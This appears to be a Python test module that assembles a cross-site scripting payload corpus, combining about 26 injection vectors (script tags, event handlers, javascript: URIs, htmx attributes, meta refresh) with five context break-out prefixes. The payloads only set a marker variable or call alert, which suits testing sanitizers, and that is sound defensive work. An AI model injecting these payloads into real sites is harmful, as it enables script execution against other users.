"""A corpus of cross-site scripting payloads, built from vectors and the contexts they try to
break out of. Every payload, if it ran, would set window.__pwned or open a dialog."""

VECTORS = [
    "<script>window.__pwned=1</script>",
    "<script src=data:,window.__pwned=1></script>",
    "<img src=x onerror=window.__pwned=1>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=window.__pwned=1>",
    "<svg><script>window.__pwned=1</script></svg>",
    "<body onload=window.__pwned=1>",
    "<iframe src=javascript:window.parent.__pwned=1>",
    "<iframe srcdoc='<script>parent.__pwned=1</script>'>",
    "<a href=javascript:window.__pwned=1 id=xss>x</a>",
    "<details open ontoggle=window.__pwned=1>",
    "<input autofocus onfocus=window.__pwned=1>",
    "<video><source onerror=window.__pwned=1>",
    "<audio src=x onerror=window.__pwned=1>",
    "<marquee onstart=window.__pwned=1>",
    "<object data=javascript:window.__pwned=1>",
    "<embed src=javascript:window.__pwned=1>",
    "<math><mtext><img src=x onerror=window.__pwned=1></mtext></math>",
    "<style>@import 'javascript:window.__pwned=1'</style>",
    "<div hx-get=/admin/people hx-trigger=load hx-target=body>",
    "<div hx-on:htmx:load=window.__pwned=1>",
    "<div data-hx-get=/admin/people data-hx-trigger=load data-hx-target=body>",
    "<form action=javascript:window.__pwned=1><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=javascript:window.__pwned=1'>",
    "<base href=javascript:window.__pwned=1//>",
    "{{7*7}}<img src=x onerror=window.__pwned=1>",
]
CONTEXTS = ["{}", '">{}', "'>{}", "</textarea>{}", "</title>{}"]

PAYLOADS = [context.format(vector) for vector in VECTORS for context in CONTEXTS]
assert len(PAYLOADS) >= 100


def chunks(limit: int) -> list[str]:
    """Split the corpus into newline-joined pieces of at most `limit` characters."""
    pieces, current = [], ""
    for payload in PAYLOADS:
        candidate = f"{current}\n{payload}" if current else payload
        if len(candidate) > limit:
            pieces.append(current)
            current = payload
        else:
            current = candidate
    pieces.append(current)
    return pieces
